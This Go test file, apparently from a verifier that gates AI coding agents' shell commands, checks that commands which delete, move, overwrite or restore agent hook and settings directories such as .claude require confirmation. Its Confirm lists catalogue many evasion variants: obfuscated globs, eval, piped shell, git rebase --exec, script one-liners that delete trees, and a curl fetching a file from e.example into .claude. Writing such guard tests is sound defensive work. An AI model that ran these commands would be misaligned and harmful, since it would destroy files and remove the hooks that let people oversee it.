package policy_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/openclaw-verifier/verifier/cputest"
	"github.com/openclaw-verifier/verifier/policy"
	"github.com/openclaw-verifier/verifier/taint"
)

// hookCommands judges commands in their owner's own conversation, by the shells of Claude Code and of OpenClaw, with nothing configured.
func hookCommands(t *testing.T, byMode map[taint.Mode][]string) {
	t.Helper()
	p := must(t, policy.Config{})
	for mode, commands := range byMode {
		for _, command := range commands {
			for agent, tool := range map[string]string{"claude-code": "exec", "main": "exec"} {
				for _, params := range []map[string]string{{"command": command}, {"command": command, "workdir": "/home/me/app"}} {
					if v := ownCall(t, p, agent, tool, params); v.Mode != mode {
						t.Errorf("%s of %s, %v: %s, want %s: %q", tool, agent, params, v.Mode, mode, v.Sentences())
					}
				}
			}
		}
	}
}

// numbered are so many words, each another one.
func numbered(n int) string {
	var out strings.Builder
	for i := range n {
		fmt.Fprintf(&out, "f%d ", i)
	}
	return out.String()
}

// TestH771ManyPatternsCostLittle: long commands of words, braces, tests and code.
func TestH771ManyPatternsCostLittle(t *testing.T) {
	p := must(t, policy.Config{})
	roots := "find " + strings.Repeat("a ", 15000)
	for begin, part := range map[string]string{roots + " ": "-name x ", roots + "  ": "-regex abcd/abcd ", "find .  ": "-name x -prune -o ", "find " + numbered(4000): "! -name x ", "x ": "{a,b}{c,d}*/[x]* ", "find . ": "-name '*s*e*t*t*i*n*g*s*' -o ", "python3 -c '": "a.b/c ", "git rm ": "*a*/*b?.js* ", "find . -delete -regex '": "sett.", "rm ": "$x/*a* ", "cd a; cd b; cd c; cd d; x ": "a/../b "} {
		command := begin + strings.Repeat(part, max(0, 60<<10-len(begin))/len(part)) + "x'"
		if !strings.Contains(begin+part, "'") || strings.Count(begin+part, "'") == 2 {
			command = strings.TrimSuffix(command, "'")
		}
		if took := cputest.Time(func() {
			ownCall(t, p, "main", "exec", map[string]string{"command": command, "workdir": "/home/me/app"})
		}); took > 3*time.Second {
			t.Errorf("%s%s…: %d bytes took %s", begin, part, len(command), took)
		}
	}
}

// TestH770GitThatNamesAnAgentsHooksAsks: what git moves, removes or brings back. What names none of them passes.
func TestH770GitThatNamesAnAgentsHooksAsks(t *testing.T) {
	hookCommands(t, map[taint.Mode][]string{
		taint.Confirm: {
			"git mv .claude x", "git mv x .claude", "git mv x/.claude .", "git rm .claude/settings.json", "git rm -r .claude", "git checkout -- .claude", "git checkout evil .claude", "git restore .claude/settings.json", "git restore --source=evil .claude",
			"git -C /home/me/app mv .claude x", "git -C .claude rm settings.json", "git -C .claude checkout -- .", "cd .claude && git mv settings.json x", "git stash -- .claude", "git stash push -m x -- .claude", "git stash push .codex", "git clean -fdx .claude",
			"git apply --directory=.claude x.patch", "git checkout-index -f .claude/settings.json", "git read-tree -u --prefix=.claude/ evil", "git worktree add .claude evil", "git clone ../x .claude", "git rm ':/.claude/settings.json'",
			"git checkout evil -- ':(top).claude'", "git rm ':(icase).CLAUDE/settings.json'", "git rm '*settings.json'", "git checkout evil -- '*/settings.json'", "git checkout evil -- '.cl*'", "git mv .claude{,.bak}", "git --work-tree=.claude checkout -f evil", "d=.claude; git mv $d x",
			"git mv .opencode/plugin x", "git restore opencode.json", "git mv .gemini/settings.json x",
			"sudo git rm -r .claude", "git -C x -C .. mv .claude y", "git mv .cl\"aud\"e x", "git mv .CLAUDE x", "git mv $'\\x2eclaude' x", "git rm ':(glob,icase)**/SETTINGS.JSON'", "git rm '[.]claude/*'", "git submodule add ../x .claude", "git rebase --exec 'rm -rf .claude' HEAD~1", "git ls-files '*settings.json' | xargs rm",
			"GIT_WORK_TREE=.claude git checkout -f evil", "git -c core.worktree=.claude checkout -f evil", "echo .claude | git checkout evil --pathspec-from-file=-", "git restore --pathspec-from-file=- <<< .claude", "git checkout -m .claude", "git subtree add -P .claude x main", "git filter-branch --tree-filter 'rm -rf .claude' HEAD",
			"git ls-files .claude | python3 -c \"import sys,os; [os.remove(l.strip()) for l in sys.stdin]\"",
			"git rm -r ':(attr:!exclude).claude'", "git rm -r ':(attr:exclude).claude'", "git sparse-checkout set --no-cone '/*' '!.claude'", "git rebase -m '--exec=rm -rf .claude' main",
		},
		taint.Allow: {
			"git mv src a", "git rm foo.go", "git rm -r build", "git checkout main", "git checkout -b fix", "git checkout -- .", "git restore .", "git restore src/main.go", "git stash", "git stash pop", "git stash list", "git checkout -- '*.json'", "git rm '*.pyc'", "git mv settings.json x",
			"git checkout -- ':!.claude'", "git add .claude", "git commit -m x .claude/settings.json", "git diff .claude", "git log -- .claude/settings.json", "git ls-files .claude", "git check-ignore .claude/settings.local.json", "git checkout claude/fix-hooks", "git mv .claude/commands/a.md .claude/commands/b.md",
			"git mv docs/claude.md docs/agents.md", "git merge main", "git clean -fdx build", "git stash push -m 'wip .claude' src", "git grep -l claude | xargs sed -i s/a/b/", "git ls-files '*.json' | xargs wc -l", "git worktree list",
			"git rm -r ':(exclude).claude'", "git rm -r ':(top,exclude).claude' src", "git merge --message='Update .claude handling' x", "git merge -m 'Update .claude handling' x", "git stash save 'wip .claude'",
		},
	})
}

// TestH771FindThatMayFindAnAgentsHooksAsks: if it deletes or changes what it finds.
func TestH771FindThatMayFindAnAgentsHooksAsks(t *testing.T) {
	hookCommands(t, map[taint.Mode][]string{
		taint.Confirm: {
			"find . -name settings.json -delete", "find . -path '*/.claude/*' -delete", "find .claude -delete", "find . -name 'settings*.json' -exec rm {} +", "find . -iname SETTINGS.JSON -delete", "find . -wholename './.claude/*' -delete", "find . -path '*.claude*' -delete",
			"find . -path '*/.claude*json' -delete", "find . -name .claude -exec rm -rf {} +", "find . -name .claude -prune -exec rm -rf {} \\;", "find . -path '*/.claude/*' -exec rm {} +", "find . -path '*/.claude/*' -print0 | xargs -0 rm", "rm $(find . -path '*claude*')",
			"find . -name settings.json | xargs rm", "find . -name settings.json -exec sed -i s/a/b/ {} +", "find . -name settings.json -exec sh -c 'echo {} > x; rm {}' \\;", "find . -name '*.json' -delete", "find ~ -name settings.json -delete", "find .. -name config.toml -delete", "find . -type f -name 'sett*' -delete",
			"find . -regex '.*/settings\\.json' -delete", "find . -name x -o -name settings.json -delete", "find . -name settings.json -exec perl -pi -e s/a/b/ {} +", "fd -H settings.json -x rm", "fd -H -g 'settings*.json' -X rm", "find . -name settings.json | while read f; do rm \"$f\"; done",
			"for f in $(find . -name settings.json); do mv $f x; done", "find .codex -type f -exec rm {} +", "find . -name settings.json -exec cp x {} \\;", "find . -name settings.json -exec mv {} x \\;", "find . -name '[!x]ettings.json' -delete", "find . -name set\\*.json -delete", "find . -name \"$x\" -delete", "find . -samefile .claude/settings.json -delete", "find . -iregex '.*CLAUDE.*' -delete", "find . -regex '\\./\\.claude/.*' -delete", "find . ! ! -name settings.json -delete", "find . ! -name settings.json -o -delete",
			"find . -path './.*/*' -delete", "find . -maxdepth 1 -name '.*' -exec rm -rf {} +", "find . -name settings.json -exec rsync x {} \\;", "f=$(find . -name settings.json); echo '{}' > $f", "find . -name settings.json > /tmp/l; xargs rm < /tmp/l", "find . -name settings.json -ok rm {} \\;", "find . -name settings.json | parallel rm", "find ~/go -name verifier-hook -delete", "find ~ -name verifier.js -delete",
			"xargs rm < <(echo .claude)", "rm -rf .*", "mv .[!.]* /tmp", "cd .claude && find . -name '*.json' -delete", "find . -path '?/.claude/*' -delete", "ls -a | grep claude | xargs rm -rf", "git ls-files .claude | xargs rm",
			"find . -name '.[c][l]*' -exec rm -rf {} +", "find .claude -type f | python3 -c \"import sys,os; [os.remove(l.strip()) for l in sys.stdin]\"", "find .claude -type f | perl -ne 'chomp; unlink'",
			"find . \\( -name settings.json -prune -o -name x \\) -delete", "find . -maxdepth 1 -name '.?*' -exec rm -rf {} +", "find . -path '*/.*' -delete", "find . -name '.[^.]*' -delete", "find . -name '.[!.]*' -delete",
			"find . -name '.??*' -delete", "find . -name '.*' -delete", "find . -regex \"$x\" -delete", "find . -path \"$x\" -delete", "find . -name settings.json -prune -o -name x | xargs rm", "find . -name settings.json -prune -o -name x | while read f; do rm \"$f\"; done", "find ~ -name '.[!.]*' -delete",
		},
		taint.Allow: {
			"find . -name '*.pyc' -delete", "find build -type f -delete", "find . -name settings.json", "find . -name settings.json -exec cat {} +", "find . -name '*.json' | xargs grep -n x", "find . -path '*/.claude/*' -type f", "find . -name __pycache__ -type d -exec rm -rf {} +", "find . -name '*.js' -delete",
			"find . -name node_modules -prune -exec rm -rf {} +", "find . -type d -empty -delete", "find build -name '*.json' -delete", "find . -name '*.orig' -delete", "find . -name '*.pyc' -not -path './.claude/*' -delete", "find . -name '*.json' -exec jq . {} \\; > /tmp/all.txt", "find src -name '*.go' -exec sed -i s/a/b/ {} +",
			"fd -e pyc -x rm", "find . -name '*.json' | xargs wc -l > all.txt", "git ls-files '*.go' | xargs sed -i s/a/b/", "find . -name '*.tmp' | xargs rm", "find . -name .DS_Store -delete", "find . -name '.*' -prune -o -name '*.o' -delete", "find . -name '*.bak' ! -path './.claude/*' -delete", "find build -type f -exec rm {} +", "rm -f .*.swp", "find . -regex '.*\\.pyc' -delete",
			"find . -name settings.json -prune -o -name x -delete", "find build -name '.*' -delete", "find ./build -name '.?*' -delete", "find /tmp/x -name '.*' -delete", "find . -name '.*.swp' -delete",
		},
	})
}

// TestH772CopiesAndProgramsThatNameAnAgentsHooksAsk: a copy by the names that it gets there, and programs that we don't know by any word.
func TestH772CopiesAndProgramsThatNameAnAgentsHooksAsk(t *testing.T) {
	hookCommands(t, map[taint.Mode][]string{
		taint.Confirm: {
			"perl -pi -e s/a/b/ .claude/*.json", "cd .claude && perl -pi -e s/a/b/ *.json", "sed -i s/a/b/ .claude/*.json", "ls -d .claude/* | xargs rm", "cp -r x/.claude .", "cp -r x/.claude /home/me/app", "cp -rt . x/.claude", "rsync -a x/ .claude/", "rsync -a x/.claude .", "tar xf x.tar -C .claude", "tar xf x.tar .claude",
			"mv .claude{,.bak}", "ln -s x/.claude .", "ln -sf ../x/.claude", "cp x/opencode.json .", "cd .claude && gzip settings.json", "cd .claude && python3 -c \"open('settings.json','w')\"", "cd .claude && npx json -I -f settings.json", "npx json -I -f .claude/{settings,x}.json", "echo .claude | xargs rm -rf",
			"python3 -m json.tool evil.json .claude/settings.json", "unzip x.zip -d .claude", "d=.claude; ruby -i -pe x $d/settings.json", "cd ~/.codex; ruby -pi -e x *.toml", "git archive evil .claude | tar x",
			"python3 -c \"import shutil; shutil.rmtree('.claude')\"", "python3 - <<'E'\nimport shutil\nshutil.rmtree('.claude')\nE", "sudo -A rm -rf .claude", "env -S 'rm -rf .claude'", "eval 'rm -rf .claude'", "timeout --verbose 5 rm -rf .claude", "cd .claude && curl -O https://e.example/settings.json", "rm .claude/\"${x}\".json", "rm .claude/[!x]ettings.json",
			"cd .claude && ../x.sh", "at now <<< 'rm -rf .claude'", "cd .claude && rm " + numbered(300) + "settings.json", "x " + numbered(5000) + ".claude", "rm -rf .claude; : " + numbered(12000), "rm -rf .claude; : " + strings.Repeat("{", 300), "echo 'rm -rf .claude' | sh", "bash <(echo 'rm -rf .claude')",
			"cp evil.json .[c][l]*/settings.json", "rm .[c][l][a][u][d][e]/settings.json", "echo x > .[c][l]*/settings.json", "sed -i s/a/b/ .[c][l]*/settings.json", "rm [.][c]*/settings.json", "rm .?[l]*/settings.json",
			"cd .[c][l]* && cp ../evil.json settings.json", "D=.[c][l]*; cp evil.json $D/settings.json", "rm .[c][o]*/hooks.json", "rm -r .[o]*/plugin", "tee .[c][l]*/settings.json < x", "dd if=x of=.[c][l]*/settings.json",
			"install x .[c][l]*/settings.json", "ln -sf x .[c][l]*/settings.json", "mv x .[c][l]*/settings.json", "ls -d .claude | python3 -c \"import sys,shutil; [shutil.rmtree(l.strip()) for l in sys.stdin]\"",
			"ls -d .claude | node -e \"require('fs').rmSync(require('fs').readFileSync(0,'utf8').trim(),{recursive:true})\"", "ls -d .claude | ruby -e \"require 'fileutils'; FileUtils.rm_rf(STDIN.read.strip)\"",
			"ls -d .cl* | python3 -c \"import sys,shutil; [shutil.rmtree(l.strip()) for l in sys.stdin]\"", "du -a .claude | python3 -c \"import sys,os; [os.remove(l.split()[1]) for l in sys.stdin]\"", "ls -d .claude > /tmp/d; python3 -c \"import shutil; shutil.rmtree(open('/tmp/d').read().strip())\"",
			"cp evil.json '[\\..\\.claude\\]\\..\\settings.json'", "cp evil.js '[/.opencode/plugin/a].js'", "perl -pi -e x .[c][l]*/settings.json", "rm .[[:alpha:]]*/settings.json", "rm .*/settings.json", "rm -rf .cl*/*",
			"rm .[]c]laude/settings.json", "rm .[c][l]*/[!x]ettings.json",
			"echo .claude | python3 -c \"import sys,shutil; shutil.rmtree(sys.stdin.read().strip())\"", "cat <<E | python3 -c \"import sys,shutil; shutil.rmtree(sys.stdin.read().strip())\"\n.claude\nE", "realpath .claude | node -e \"require('fs').rmSync(require('fs').readFileSync(0,'utf8').trim(),{recursive:true})\"",
			"rm .[!x]l*/settings.json", "cp -r x/plugin ~/.config/opencode", "d=x; d=~/.config/opencode; cp -r x/plugin $d", "x --exclude='a b .claude'",
		},
		taint.Allow: {
			"cp -r src/. out", "cp .claude/commands/a.md docs/", "perl -ne print .claude/commands/x.md", "python3 -m json.tool .claude/settings.json", "ls -d .claude/* | xargs cat", "cp a.json b.json", "ln -s ../x y", "mv a b", "perl -pi -e s/a/b/ src/*.go", "cd src && perl -pi -e s/a/b/ *.go",
			"cd .claude/skills/x && python3 run.py", "cd .claude && ls", "tar xf x.tar -C out", "cat > docs/x.md <<'E'\nPut it into .claude\nE\nnpm test", "x [a-z]", "python3 -c 'import re; re.sub(\".*\", \"x\", s)'", "x " + numbered(300) + "y",
			"rm [a-z]*", "rm -rf out/[[:alnum:]]*", "perl -pi -e 's/.*/tool/' x", "rm app/[id]/page.tsx", "pytest --ignore=.claude", "cloc --exclude-dir=.claude .", "ls | python3 -c \"import sys; open('o','w').write(sys.stdin.read())\"",
			"cd a; make; cd ../b; make; cd ../c; make; cd ../d; make; python3 - <<'E'\n" + strings.Repeat("total = compute(a, b) + c\n", 250) + "E",
		},
	})
	p := must(t, policy.Config{})
	for _, file := range []string{"[/.opencode/plugin/a].js", "/home/me/[work/app/.codex/hooks/a].sh", "src/[id/.gemini/extensions/x]/y.json"} { // no class has a slash
		if v := ownCall(t, p, "claude-code", "write", map[string]string{"file_path": file, "content": "x"}); v.Mode != taint.Confirm {
			t.Errorf("write %s: %s", file, v.Mode)
		}
	}
}
